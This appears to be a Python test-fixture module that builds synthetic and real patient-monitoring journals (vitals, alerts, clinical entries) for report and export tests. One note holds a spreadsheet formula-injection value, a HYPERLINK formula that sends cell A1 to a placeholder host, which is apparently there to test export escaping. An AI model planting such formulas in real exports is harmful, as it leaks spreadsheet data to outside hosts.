"""Journals with recorded sessions that the tests of report and exports share: one made up of traps, and a real one.

The made-up visit `visit-1`, 24 minutes, has: readings at uneven times, with decimals; invalid, questionable and
implausible ones; a gap; cuff pressures that are provisional, failed and without a diastolic; two devices for one vital,
once at the same nanosecond; a recording from before its opening; a move to another bed; a pause; corrections, a void
entry, a signature and a late note; texts that are formulas or markup, of several lines and scripts; alerts that were
acknowledged, latched, and stand to the end; waveforms with a gap. `visit-2` is open and has nothing but its opening.
"""

from __future__ import annotations

import asyncio
import math
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from drivers.clock import NS
from drivers.events import Cause, DeviceStatus, Event, LinkState, Validity, Waveform, measured, missing
from drivers.recordings import csv
from monitor.alerts import profile_file
from monitor.alerts.conditions import AUDIO, AlertEvent, AlertState, Priority, Why
from monitor.alerts.conditions import Kind as Condition
from monitor.review.chart import Chart, build
from monitor.review.source import JournalSource
from monitor.sessions.entries import Entry, Kind
from monitor.storage.journal import Journal

START = int(datetime(2026, 11, 25, 8, 0, tzinfo=UTC).timestamp()) * NS
"""When `visit-1` and `real` are opened, UTC nanoseconds."""
MINUTES = 24
REAL = Path(__file__).parents[4] / "shared" / "recordings" / "mimic4" / "mimic4_85594648_desat_2h_1hz.csv"
FORMULA = '=HYPERLINK("http://x/?"&A1,"see")'
MARKUP = '<b>late</b> "note" & more; café, Übelkeit, 気分が悪い, \U0001f642'


def after(seconds: float) -> int:
    """UTC nanoseconds so many seconds after the opening."""
    return START + round(seconds * NS)


def made_up(folder: Path) -> Path:
    """A journal with `visit-1` and `visit-2` in that folder, which is given back."""
    asyncio.run(_made_up(folder))
    return folder


def real(folder: Path) -> Path:
    """A journal with the session `real`, two hours of a real patient (`REAL`)."""
    asyncio.run(_real(folder))
    return folder


def chart_of(folder: Path, session: str = "visit-1") -> Chart:
    """The chart of a session there; one that is open is shown until `MINUTES` after `START`."""
    source = JournalSource(folder)
    return build(source, source.session(session), after(60 * MINUTES))


def readings_of(chart: Chart) -> dict[tuple[str, str, int], tuple[float | None, str, str]]:
    """All readings by vital, device and time (UTC nanoseconds): value, validity in lower case, cause."""
    found = {}
    for vital, track in chart.vitals.items():
        columns = (track.device, track.at, track.value, track.validity, track.cause)
        for device, at, value, validity, cause in zip(*(one.tolist() for one in columns), strict=True):
            number = None if math.isnan(value) else value
            word = Validity(validity).name.lower()
            found[vital, track.devices[device], at] = (number, word, track.causes[cause])
    return found


async def _made_up(folder: Path) -> None:
    journal = Journal(folder)
    journal.open()
    for second in range(-300, -240):
        journal.record("chair-9", "oximeter", [measured("spo2", 97.0, after(second), after(second))])
    for second in range(60 * MINUTES):
        bed = "chair-1" if second < 18 * 60 else "chair-2"
        journal.record(bed, "oximeter", list(_oximeter(second)))
        journal.record(bed, "ecg", list(_ecg(second)))
        journal.record(bed, "cuff", list(_cuff(second)))
    journal.record_link("chair-1", "oximeter", LinkState.LOST, "unplugged", after(600))
    journal.record_link("chair-1", "oximeter", LinkState.RECEIVING, "", after(660))
    behind = DeviceStatus("clock_behind", True, "its clock is 83 s behind", after(5))
    journal.record("chair-1", "cuff", [behind])
    journal.record_entries(_entries())
    journal.record_entries(_opening("visit-2", "P-018", 40, "chair-3"))
    journal.record_alerts(list(_alerts()))
    await journal.close()


def _oximeter(second: int) -> Iterator[Event]:
    if 600 <= second < 660:
        return
    # At whole minutes on the second, else up to 40 ms beside it.
    at = after(second + second % 60 * 7919 % 41 / 1000)
    if 300 <= second < 330:
        yield from (missing(vital, at, at, Cause.SENSOR_OFF) for vital in ("spo2", "pulse_rate", "perfusion_index"))
        return
    doubts = [Cause.LOW_PERFUSION] if 700 <= second < 720 else []
    dip = 9 if 400 <= second < 460 else 0
    yield measured("spo2", 98.0 - second % 3 - dip, at, at + 5_000_000, doubts)
    yield measured("pulse_rate", 71.0 + second % 11, at, at + 5_000_000, doubts)
    yield measured("perfusion_index", 0.3 if doubts else round(2.1 + second % 7 / 10, 1), at, at + 5_000_000, doubts)
    if second < 120 and second != 60:
        yield from (
            Waveform("pleth", tuple((k * 31 + third) % 256 for k in range(25)), 75.0, run, run + NS // 3)
            for third in range(3)
            for run in [after(second + third / 3)]
        )


def _ecg(second: int) -> Iterator[Event]:
    at = after(second)
    yield measured("heart_rate", 400.0 if second == 800 else 72.0 + second % 9, at, at)
    if second % 600 == 30:
        yield measured("temp", 36.7 + second / 1e4, at, at)


def _cuff(second: int) -> Iterator[Event]:
    at = after(second)
    number, beside = divmod(second, 300)
    if beside == 288 and number != 2:
        yield measured("nibp_sys", 131.0, at, at, [Cause.PROVISIONAL])
    if beside or not number:
        return
    if number == 2:
        yield from (missing(key, at, at, Cause.MEASUREMENT_FAILED) for key in ("nibp_sys", "nibp_dia", "nibp_mean"))
        return
    yield measured("nibp_sys", 118.0 + 7 * number, at, at)
    if number == 3:
        yield missing("nibp_dia", at, at)
    else:
        yield measured("nibp_dia", 76.0 + number, at, at)
    yield measured("nibp_mean", 92.0 + number, at, at)
    yield measured("pulse_rate", 70.0, at, at)


def _opening(session: str, reference: str, minutes: int, bed: str) -> list[Entry]:
    content = {
        "reference": reference,
        "planned_minutes": minutes,
        "profile": "adult_infusion",
        "rules": profile_file.shipped("adult_infusion").model_dump(mode="json", exclude_defaults=True),
    }
    return [Entry(session, 1, Kind.OPENED, START, START, "Kim Möller", bed, content, f"{session}-1")]


def _entries() -> list[Entry]:
    entries = _opening("visit-1", "P-017", 10, "chair-1")

    def entry(
        kind: Kind,
        second: float,
        content: dict[str, Any],
        *,
        by: str = "Kim Möller",
        entered: float | None = None,
        bed: str = "chair-1",
    ) -> None:
        number = len(entries) + 1
        entered_at = after(second if entered is None else entered)
        entries.append(Entry("visit-1", number, kind, after(second), entered_at, by, bed, content, f"visit-1-{number}"))

    entry(Kind.CHECK, 20, {"item": "consent", "title": "Consent signed", "answer": "yes"})
    entry(Kind.CHECK, 25, {"item": "fasting", "title": "Fasted for 4 h", "skipped": "emergency"})
    entry(Kind.STEP, 60, {"step": "baseline"})
    entry(Kind.SCORE, 90, {"scale": "pain", "title": "Pain (NRS)", "version": "1", "value": 6, "text": "left leg"})
    entry(Kind.DOSE, 200, {"text": "ketamine 0.5 mg/kg over 40 min (35 mg)"})
    entry(Kind.STEP, 240, {"step": "start"})
    entry(Kind.NOTE, 410, {"text": "feels floaty, calm\neyes closed"})
    entry(Kind.EVENT, 500, {"event": "nausea", "title": "Nausea", "text": "mild, passed"})
    entry(Kind.NOTE, 510, {"text": FORMULA})
    entry(Kind.LIMIT, 520, {"rule": "spo2_low", "limit": 88.0, "reason": "known low baseline"})
    entry(Kind.STEP, 540, {"step": "pause"})
    entry(Kind.STEP, 570, {"step": "resume"})
    entry(Kind.CORRECTION, 580, {"corrects": 8, "text": "feels floaty, anxious", "reason": "wrong word"})
    entry(Kind.NOTE, 590, {"text": "of another patient"})
    entry(Kind.CORRECTION, 620, {"corrects": 15, "void": True, "reason": "wrong chart"})
    entry(Kind.STEP, 900, {"step": "stop"})
    entry(Kind.STEP, 930, {"step": "recovery"})
    entry(Kind.MOVED, 1080, {"from": "chair-1", "to": "chair-2"})
    entry(Kind.NOTE, 1100, {"text": "water given"}, entered=1300, bed="chair-2")
    entry(
        Kind.ASSIGNED,
        1310,
        {"bed": "chair-9", "since": after(-300), "until": after(-240)},
        bed="chair-2",
    )
    met = {"id": "spo2", "text": "SpO₂ as at baseline", "met": True, "detail": "96 %"}
    entry(Kind.CLOSED, 60 * MINUTES, {"criteria": [met], "reason": ""}, bed="chair-2")
    entry(Kind.SIGNED, 60 * MINUTES + 600, {"through": 22}, by="Dr. Lee", bed="")
    entry(Kind.NOTE, 1200, {"text": MARKUP}, entered=60 * MINUTES + 3600, bed="")
    return entries


def _alerts() -> Iterator[AlertEvent]:
    def alert(rule: str, priority: Priority, state: AlertState, second: float, text: str, **more: Any) -> AlertEvent:
        kind = Condition.TECHNICAL if rule.startswith("stale") else Condition.PHYSIOLOGICAL
        bed = "chair-1" if second < 18 * 60 else "chair-2"
        return AlertEvent(bed, rule, kind, priority, state, after(second), text, session="visit-1", **more)

    low: dict[str, Any] = {"vital": "spo2", "value": 87.0, "limit": 90.0}
    yield alert("spo2_low", Priority.HIGH, AlertState.ON, 410, "SpO₂ 87 < 90", why=Why.READING, **low)
    yield alert("spo2_low", Priority.HIGH, AlertState.ACKNOWLEDGED, 425, "SpO₂ 87 < 90", actor="Kim Möller", **low)
    yield alert("spo2_low", Priority.HIGH, AlertState.LATCHED, 465, "SpO₂ 87 < 90", why=Why.READING, **low)
    yield alert("spo2_low", Priority.HIGH, AlertState.OFF, 480, "SpO₂ 96", actor="Kim Möller", why=Why.OPERATOR)
    stale = "SpO₂: no value for 10 s"
    yield alert("stale_spo2", Priority.LOW, AlertState.ON, 610, stale, vital="spo2", device="oximeter", why=Why.TIME)
    yield alert("stale_spo2", Priority.LOW, AlertState.OFF, 661, "SpO₂: back", vital="spo2", device="oximeter")
    paused = alert(AUDIO, Priority.NONE, AlertState.PAUSED, 430, "audio paused", value=120.0, actor="Kim Möller")
    yield paused._replace(kind=Condition.OTHER)
    high: dict[str, Any] = {"vital": "nibp_sys", "value": 146.0, "limit": 140.0, "why": Why.READING}
    yield alert("sys_high", Priority.MEDIUM, AlertState.ON, 1200, "NIBP sys 146 > 140", **high)


async def _real(folder: Path) -> None:
    recording = csv.read(REAL)
    journal = Journal(folder)
    journal.open()
    for _, batch in recording.readings():
        moved = [
            one._replace(observed_at=one.observed_at + START, received_at=one.received_at + START) for one in batch
        ]
        journal.record("chair-1", "monitor", moved)
    entries = _opening("real", "P-020", 40, "chair-1")
    steps = [(60, "baseline"), (1200, "start"), (3600, "stop"), (3660, "recovery")]
    for number, (second, step) in enumerate(steps, start=2):
        at = after(second)
        entries.append(Entry("real", number, Kind.STEP, at, at, "Kim", "chair-1", {"step": step}, f"real-{number}"))
    closed = after(recording.ended)
    content = {"criteria": [], "reason": ""}
    entries.append(Entry("real", 6, Kind.CLOSED, closed, closed, "Kim", "chair-1", content, "real-6"))
    journal.record_entries(entries)
    await journal.close()
